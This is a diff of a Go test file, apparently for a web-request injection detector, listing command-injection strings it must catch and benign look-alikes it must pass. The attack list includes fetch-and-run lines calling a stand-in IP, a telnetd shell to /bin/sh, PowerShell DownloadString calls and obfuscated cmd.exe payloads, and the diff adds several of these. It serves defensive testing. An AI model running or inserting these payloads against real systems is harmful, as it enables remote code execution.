@@ -51,14 +51,15 @@ func TestRCEStandsAlone(t *testing.T) {
 		"`curl 203.0.113.9 -o /tmp/a`", "http://h.example/HNAP1/x`telnetd -p 23 -l /bin/sh`", "$(/tmp/.x </dev/null &)",
 		"wget http://203.0.113.9/a; chmod 777 a; ./a", "cd /tmp || cd /var; tftp -g -r a 203.0.113.9; sh a", "busybox wget http://203.0.113.9/a && sh a",
 		"x||^F^o^R /^f \"tokens=2\" %^B ^IN (^'^s^e^t^') ^D^O ^e^c^h^o", "|c%TEMP:~-3,1%d /c calc", "&&set x=%ProgramFiles(x86):~3,1%a", "|FOR,,/F,,\"tokens=2\",%T,,IN,,('assoc'),DO,x",
-		"test||makecab C:\\x\\a.exe C:\\x\\b", "x && ilasm.exe C:\\x\\a.txt /exe", "name;podman run --rm -d x", "; hostname", ";sync #", "7 & id; #", "a;expr 268409241 - 2;x", "uname -a; id", "unset HISTFILE;uname -a;id;w\n", "id && whoami", "| halt --reboot", "x`telnetd &`", ";wh$()oami", "&mklink a b",
+		"test||makecab C:\\x\\a.exe C:\\x\\b", "x && ilasm.exe C:\\x\\a.txt /exe", "name;podman run --rm -d x", "; hostname", ";sync #", "7 & id; #", "203.0.113.9 && dir", "203.0.113.9 & ver", ";Get-Process", "7;Get-LocalUser #", "; (New-Object Net.WebClient).DownloadString('http://h/a')",
+		";[System.Net.Dns]::GetHostAddresses('x')", "&start calc.exe", "7 & start calc.exe &", ";nl flag", "a;expr 268409241 - 2;x", "uname -a; id", "unset HISTFILE;uname -a;id;w\n", "id && whoami", "| halt --reboot", "x`telnetd &`", ";wh$()oami", "&mklink a b",
 	}
 	for _, p := range [...]Place{InQuery, InForm, InJSON} {
 		recognises(t, RCE, Where{Place: p}, attacks, []string{
 			"push;sync", "async|sync", "example.com;free", "free\nmount", "name\nhostname", "10.0.0.1\nserver", "10.0.0.1, hostname", "`users`.`id`", "t.`id`", "x.`date`=1", "x`y`z",
 			"it's\nfree", "free || paid", "yes/`no`", "`hostname` or `set`", "time;reset;", "users|groups", "$(document).ready", "1.5;free",
 			"%date:~0,4%", "backup-%date:~-4%%date:~3,2%", "a^b^c", "x | ^y^z", "f() || g()", "curl -LO https://dl.example/kubectl; chmod +x kubectl; ./kubectl", "%tempx:~1%",
-			"who; what; when", "w | h | d", "id;name", "term|expr", "id, whoami", "whoami or id", "last; who cares",
+			"who; what; when", "w | h | d", "id;name", "term|expr", "; set-top boxes", "a; get-together", "$([System.DateTime]::Now)", "(New-Object Net.WebClient).DownloadString('http://h/a')", "203.0.113.9 and more", ";nl;de", "download; start a.b", "id, whoami", "whoami or id", "last; who cares",
 			"[a](https://h.example/)と`curl`で", "see https://h.example/ `curl`", "|free|", "; free shipping", "sales; free -shipping", "for (i in x) do", "for, say, 5% in (a) do",
 		})
 	}
